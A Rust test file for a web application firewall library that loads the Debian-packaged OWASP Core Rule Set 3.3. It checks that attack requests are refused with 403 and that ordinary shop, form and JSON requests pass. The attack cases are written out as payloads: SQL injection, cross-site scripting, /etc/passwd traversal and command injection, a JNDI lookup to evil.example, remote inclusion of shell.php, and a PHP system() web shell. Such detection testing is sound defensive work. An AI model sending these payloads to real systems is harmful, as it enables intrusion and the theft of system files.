//! The Core Rule Set 3.3 as Debian packages it: it must load, block attacks and leave ordinary requests alone.
//!
//! Without the package (`modsecurity-crs`) the tests say so and pass.
#![allow(clippy::unwrap_used)]

use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;
use std::time::Duration;

use portcullis_waf::{Connection, Disk, Response, Source, Waf};

const SHARE: &str = "/usr/share/modsecurity-crs/rules";
const SETUP: &str = "/etc/modsecurity/crs";

const ENGINE: &str = r#"
SecRuleEngine On
SecRequestBodyAccess On
SecResponseBodyAccess On
SecResponseBodyMimeType text/plain text/html text/xml
SecResponseBodyLimitAction ProcessPartial
SecRule REQUEST_HEADERS:Content-Type "^(?:application(?:/soap\+|/)|text/)xml" \
    "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQUEST_HEADERS:Content-Type "^application/json" \
    "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
"#;

/// The package's rules in the order of its own `owasp-crs.load`.
fn compile() -> Option<Waf> {
    if !Path::new(SHARE).is_dir() {
        println!("{SHARE} is not there: CRS 3.3 was NOT tested (install modsecurity-crs)");
        return None;
    }
    let sources = [
        Source::Text { name: "engine".to_owned(), text: ENGINE.to_owned() },
        Source::File(Path::new(SETUP).join("crs-setup.conf")),
        Source::File(Path::new(SETUP).join("REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf")),
        Source::File(Path::new(SHARE).join("*.conf")),
        Source::File(Path::new(SETUP).join("RESPONSE-999-EXCLUSION-RULES-AFTER-CRS.conf")),
    ];
    let waf = Waf::compile(&sources, &Disk).unwrap_or_else(|errors| {
        errors.iter().for_each(|error| println!("{error}"));
        panic!("{} errors in the rule set", errors.len());
    });
    waf.notes().iter().for_each(|note| println!("{}: {}", note.origin, note.message));
    Some(waf)
}

/// Sends a request and gives the status of the refusal, with the ids that matched.
fn send(
    waf: &Waf,
    level: &str,
    method: &str,
    uri: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> (Option<u16>, Vec<u32>) {
    let mut transaction = waf.transaction(Connection {
        client: IpAddr::V4(Ipv4Addr::new(192, 0, 2, 7)),
        client_port: 40_000,
        server: IpAddr::V4(Ipv4Addr::LOCALHOST),
        server_port: 80,
        unique_id: "t".to_owned(),
        now: Duration::from_secs(1_700_000_000),
    });
    transaction.set_tx("paranoia_level", level);
    transaction.request_line(method.as_bytes(), uri.as_bytes(), b"HTTP/1.1");
    let length = body.len().to_string();
    let common =
        [("Host", "www.example.com"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "text/html")];
    let sized = (!body.is_empty()).then_some(("Content-Length", length.as_str()));
    for (name, value) in common.iter().chain(headers).copied().chain(sized) {
        transaction.request_header(name.as_bytes(), value.as_bytes());
    }
    transaction.request_headers_done();
    transaction.request_body_chunk(body.as_bytes());
    transaction.request_body_done();
    let audit = transaction.finish();
    let status = audit.intervention.map(|intervention| match intervention.response {
        Response::Deny { status } | Response::Redirect { status, .. } => status,
        Response::Drop => 0,
    });
    (status, audit.matches.iter().map(|matched| matched.id).collect())
}

const FORM: (&str, &str) = ("Content-Type", "application/x-www-form-urlencoded");

#[test]
fn attacks_are_blocked() {
    let Some(waf) = compile() else { return };
    let cases = [
        ("GET", "/?id=1%27%20or%20%271%27=%271", "", 942_100),
        ("GET", "/?id=1%20union%20select%20password%20from%20users", "", 942_270),
        ("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", 941_100),
        ("GET", "/?file=../../../../etc/passwd", "", 930_120),
        ("GET", "/?x=%24%7Bjndi:ldap://evil.example/a%7D", "", 932_130),
        ("GET", "/?cmd=;cat+/etc/passwd", "", 932_160),
        ("GET", "/?u=http://10.0.0.1/shell.php", "", 931_100),
        ("POST", "/", "code=%3C?php+system($_GET[1]);", 933_100),
        ("POST", "/", "x=%3Csvg/onload=alert(1)%3E", 941_100),
    ];
    for (method, uri, body, expected) in cases {
        let headers: &[(&str, &str)] = if body.is_empty() { &[] } else { &[FORM] };
        let (status, ids) = send(&waf, "1", method, uri, headers, body);
        assert_eq!(status, Some(403), "{uri} {body} {ids:?}");
        assert!(ids.contains(&expected), "{uri} {body}: {expected} not in {ids:?}");
    }
}

#[test]
fn ordinary_requests_pass() {
    let Some(waf) = compile() else { return };
    let json = ("Content-Type", "application/json");
    let cases: [(&str, &str, &[(&str, &str)], &str); 4] = [
        ("GET", "/shop/list?page=2&sort=price&q=garden+chair", &[("Cookie", "sid=5f2a9c; theme=dark")], ""),
        ("POST", "/account", &[FORM], "first=Ada&last=Lovelace&city=London&note=See+you+on+Monday"),
        ("POST", "/api/order", &[json], r#"{"items":[{"sku":"A-1","count":2}],"note":"ring twice"}"#),
        ("HEAD", "/", &[], ""),
    ];
    for (method, uri, headers, body) in cases {
        let (status, ids) = send(&waf, "1", method, uri, headers, body);
        assert_eq!(status, None, "{uri} {ids:?}");
    }
}

#[test]
fn odd_file_names_are_found_by_looking_behind() {
    let Some(waf) = compile() else { return };
    let upload = |name: &str| {
        let body =
            format!("--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\nx\r\n--B--\r\n");
        send(&waf, "1", "POST", "/", &[("Content-Type", "multipart/form-data; boundary=B")], &body).1
    };
    assert!(upload("a;b.txt").contains(&920_120));
    assert!(!upload("&auml;b.txt").contains(&920_120));
}

#[test]
fn tautologies_are_found_by_referring_back() {
    let Some(waf) = compile() else { return };
    for (value, expected) in [("a+%3D+a", true), ("a+!%3D+b", true), ("a+!%3D+a", false), ("a+%3D+b", false)] {
        let (_, ids) = send(&waf, "2", "GET", &format!("/?q={value}"), &[], "");
        assert_eq!(ids.contains(&942_130), expected, "{value} {ids:?}");
    }
}
